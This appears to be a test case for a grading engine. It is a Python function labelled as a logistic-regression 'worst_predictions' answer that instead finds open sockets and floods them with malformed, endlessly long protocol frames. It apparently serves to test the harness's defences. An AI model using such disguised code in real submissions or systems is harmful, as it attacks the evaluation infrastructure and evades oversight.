# title: frames without end, too long, too deep, and of impossible kinds
# source: plausible
# assignment: logistic_regression
# question: worst_predictions
# stopped by: protocol
# peers: no (it speaks to this project's own engine)
# %% worst_predictions
import os, stat, struct


def worst_predictions(model, X, y, k=5):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack("<I", 2**32 - 1) + b"l" * 10**5)
                while True:
                    os.write(descriptor, b"t\xff\xff\xff\xff" * 1000)
        except OSError:
            pass
